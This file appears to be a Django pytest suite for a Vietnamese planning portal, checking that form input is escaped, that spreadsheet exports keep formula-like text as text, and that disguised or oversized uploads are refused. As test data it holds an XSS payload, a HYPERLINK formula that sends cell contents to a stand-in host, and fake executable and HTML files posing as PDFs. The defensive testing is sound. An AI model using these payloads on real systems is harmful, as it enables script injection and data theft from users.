"""Hostile input through the forms: HTML/JS in every text field comes back inert, formula-like text is
exported as text, oversized and disguised uploads are refused with a message and store nothing.

(Other units' ids in every URL and API call, and missing CSRF tokens on every POST, are checked for
every URL by test_url_access.py; portal rich text by portal/tests/test_sanitising.py.)"""
import io
from datetime import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core import uploads
from core.testing.world import OFFICE_ADMIN, OFFICE_REVIEWER, UNIT_LEADER, UNIT_OFFICER
from plans import services as plan_services
from plans.models import ActionPlan, DossierAttachment
from plans.tests.factories import open_2017_call, phase_2016_2020, strategy
from rounds import services as round_services
from rounds.tests.factories import open_2017_round

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'

pytestmark = pytest.mark.django_db


@pytest.fixture
def scene(world, clock):
    clock.set_now(datetime(2016, 6, 1, 9, 0))
    strategy()
    round_obj = open_2017_round(world)
    call = open_2017_call(world)
    return world, round_obj, call


def _as(client, user):
    client.force_login(user)
    return client


def _inert(html: str):
    assert "<script>alert" not in html and "onerror=alert(1)>" not in html.replace(ESCAPED, "")
    assert ESCAPED in html


def test_text_fields_of_every_unit_form_come_back_escaped(scene, client):
    world, round_obj, call = scene
    officer = _as(client, world.user(UNIT_OFFICER))
    code = world.unit.code
    posts = [
        (reverse("rounds:row_add", args=[round_obj.pk, code]),
         {"version": 0, "name": SCRIPT, "objectives": SCRIPT, "products": SCRIPT, "central_vnd": "1", "other_vnd": "0"},
         reverse("rounds:proposal", args=[round_obj.pk, code])),
        (reverse("plans:plan_task_add", args=[phase_2016_2020().code, code]),
         {"version": 0, "name": SCRIPT, "responsible_body": SCRIPT, "start_year": "2016", "end_year": "2017"},
         reverse("plans:action_plan", args=[phase_2016_2020().code, code])),
        (reverse("plans:dossier_task_add", args=[2017, code]),
         {"version": 0, "name": SCRIPT, "responsible_body": SCRIPT},
         reverse("plans:dossier", args=[2017, code])),
    ]
    for url, data, page in posts:
        response = officer.post(url, data)
        assert response.status_code == 302, (url, response.content[:500])
        _inert(officer.get(page).content.decode())
    dossier = call.dossiers.get()
    officer.post(reverse("plans:dossier_summary", args=[2017, code]), {"version": dossier.lock_version, "summary": SCRIPT})
    _inert(officer.get(reverse("plans:dossier", args=[2017, code])).content.decode())
    officer.post(reverse("accounts:profile"), {"full_name": SCRIPT, "position": SCRIPT, "phone": "1",
                                               "notification_channel": "in_app"})
    _inert(officer.get(reverse("core:dashboard")).content.decode())


def test_the_office_sees_hostile_text_inert_on_its_pages(scene, client):
    world, round_obj, call = scene
    officer = world.user(UNIT_OFFICER)
    dossier = plan_services.dossier_for(call=call, organisation=world.unit)
    plan_services.save_dossier_task(dossier=dossier, user=officer, data={"name": SCRIPT}, funding={})
    plan_services.submit_dossier(dossier=dossier, user=world.user(UNIT_LEADER))
    client.post(reverse("accounts:register"), {"organisation": world.unit.pk, "full_name": SCRIPT, "position": SCRIPT,
                                               "email": "hostile@example.vn", "phone": "0900", "requested_role": "unit_officer",
                                               "note": SCRIPT})
    office = _as(client, world.user(OFFICE_ADMIN))
    for page in (reverse("plans:dossier", args=[2017, world.unit.code]), reverse("accounts:request_list")):
        _inert(office.get(page).content.decode())
    office.post(reverse("reports:pm_report", args=[2017]), {"title": SCRIPT, "number": "1/BC-BCT", "assessment": SCRIPT,
                                                             "signer_title": "THỨ TRƯỞNG", "signer_name": SCRIPT})
    _inert(office.get(reverse("reports:pm_report", args=[2017])).content.decode())


def test_formula_like_text_is_exported_as_text_in_every_workbook(scene, client):
    world, round_obj, call = scene
    officer, leader = world.user(UNIT_OFFICER), world.user(UNIT_LEADER)
    proposal = round_services.proposal_for(round_obj=round_obj, organisation=world.unit)
    round_services.save_row(proposal=proposal, user=officer, data={"name": FORMULA, "central_vnd": 1, "other_vnd": 0})
    round_services.submit(proposal=proposal, user=leader)  # the consolidated export lists what the office received
    dossier = plan_services.dossier_for(call=call, organisation=world.unit)
    plan_services.save_dossier_task(dossier=dossier, user=officer, data={"name": FORMULA, "responsible_body": FORMULA},
                                    funding={})
    plan_services.submit_dossier(dossier=dossier, user=leader)
    office = _as(client, world.user(OFFICE_REVIEWER))
    for url in (reverse("rounds:export", args=[round_obj.pk]), reverse("reports:pm_report_xlsx", args=[2017]),
                reverse("rounds:export_unit", args=[round_obj.pk, world.unit.code])):
        workbook = load_workbook(io.BytesIO(office.get(url).content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
        assert cells, url
        assert all(cell.data_type == "s" for cell in cells), url


def test_uploads_are_checked_by_content_and_size_and_store_nothing_when_refused(scene, client):
    world, _round, call = scene
    officer = _as(client, world.user(UNIT_OFFICER))
    code = world.unit.code
    phase = phase_2016_2020()
    plan = plan_services.plan_for(organisation=world.unit, phase=phase)
    plan_services.save_plan_task(plan=plan, user=world.user(UNIT_OFFICER),
                                 data={"name": "A", "start_year": 2016, "end_year": 2016}, funding={})
    plan.refresh_from_db()
    disguised = SimpleUploadedFile("quyet-dinh.pdf", b"MZ\x90\x00\x03 a Windows program", content_type="application/pdf")
    html = SimpleUploadedFile("qd.pdf", b"<html><script>alert(1)</script></html>", content_type="application/pdf")
    for bad in (disguised, html):
        response = officer.post(reverse("plans:plan_issue", args=[phase.code, code]), {
            "version": plan.lock_version, "decision_number": "1/QĐ", "decision_date": "01/05/2016", "signer": "A",
            "signed_file": bad})
        assert response.status_code == 200 and "Chỉ nhận tệp PDF hoặc Word" in response.content.decode()
    assert not ActionPlan.objects.get(pk=plan.pk).signed_file

    plan_services.dossier_for(call=call, organisation=world.unit)
    oversized = SimpleUploadedFile("big.pdf", b"%PDF-1.4\n" + b"0" * (uploads.MAX_BYTES["document"] + 1))
    response = officer.post(reverse("plans:dossier_attach", args=[2017, code]), {"file": oversized}, follow=True)
    assert "Tệp quá lớn" in response.content.decode()
    response = officer.post(reverse("plans:dossier_attach", args=[2017, code]),
                            {"file": SimpleUploadedFile("x.docx", b"PK\x03\x04 not a real docx")}, follow=True)
    assert "Chỉ nhận tệp PDF hoặc Word" in response.content.decode()
    assert not DossierAttachment.objects.exists()


def test_amounts_that_are_not_whole_dong_or_not_numbers_are_refused_with_the_field_named(scene, client):
    world, _round, _call = scene
    officer = _as(client, world.user(UNIT_OFFICER))
    url = reverse("plans:dossier_task_add", args=[2017, world.unit.code])
    for amount, message in (("1,0000005", "lẻ dưới 1 đồng"), ("abc", "không phải là một số"), ("1e400", "Hãy viết như 1.500.000"), ("9" * 30, "quá lớn")):
        response = officer.post(url, {"version": 0, "name": "A", "amount-local": amount})
        assert response.status_code == 200 and message in response.content.decode(), amount
    assert not world.unit.dossiers.get().tasks.exists()


def test_the_focal_unit_registry_form_keeps_hostile_text_inert(scene, client):
    world, _round, _call = scene
    officer = _as(client, world.user(UNIT_OFFICER))
    url = reverse("organisations:focal_unit_edit", args=[world.unit.code])
    response = officer.post(url, {
        "status": "designated", "name": SCRIPT, "decision_number": SCRIPT, "decision_date": "01/05/2016",
        "decision_signer": SCRIPT, "address": SCRIPT, "phone": "0243", "email": "a@b.vn", "note": SCRIPT,
        "contacts-TOTAL_FORMS": "1", "contacts-INITIAL_FORMS": "0",
        "contacts-0-full_name": SCRIPT, "contacts-0-position": SCRIPT, "contacts-0-email": "c@d.vn", "contacts-0-phone": "1",
    })
    assert response.status_code == 302, response.content[:400]
    _inert(officer.get(reverse("organisations:detail", args=[world.unit.code])).content.decode())
    office = _as(client, world.user(OFFICE_ADMIN))
    _inert(office.get(reverse("organisations:list")).content.decode())


def test_the_evaluation_form_keeps_comments_inert_and_refuses_bad_numbers(scene, client):
    from evaluation.models import IndicatorValue
    from evaluation.tests.factories import open_evaluation

    world, _round, _call = scene
    period = open_evaluation(world)
    indicator = period.programme.indicators.exclude(aggregation="computed").order_by("order").first()
    officer = _as(client, world.user(UNIT_OFFICER))
    url = reverse("evaluation:report_edit", args=[period.pk, world.unit.code])
    form = officer.get(url).content.decode()
    numeric = f"{indicator.code}__value" if f'name="{indicator.code}__value"' in form else f"{indicator.code}__numerator"
    response = officer.post(url, {numeric: "=1+1", f"{indicator.code}__comment": SCRIPT})
    assert response.status_code == 200 and not IndicatorValue.objects.exists()  # not a number: nothing saved
    page = response.content.decode()
    assert "<script>alert" not in page
    officer.post(url, {numeric: "1", f"{indicator.code}__denominator": "2", f"{indicator.code}__comment": SCRIPT})
    _inert(officer.get(reverse("evaluation:report", args=[period.pk, world.unit.code])).content.decode())
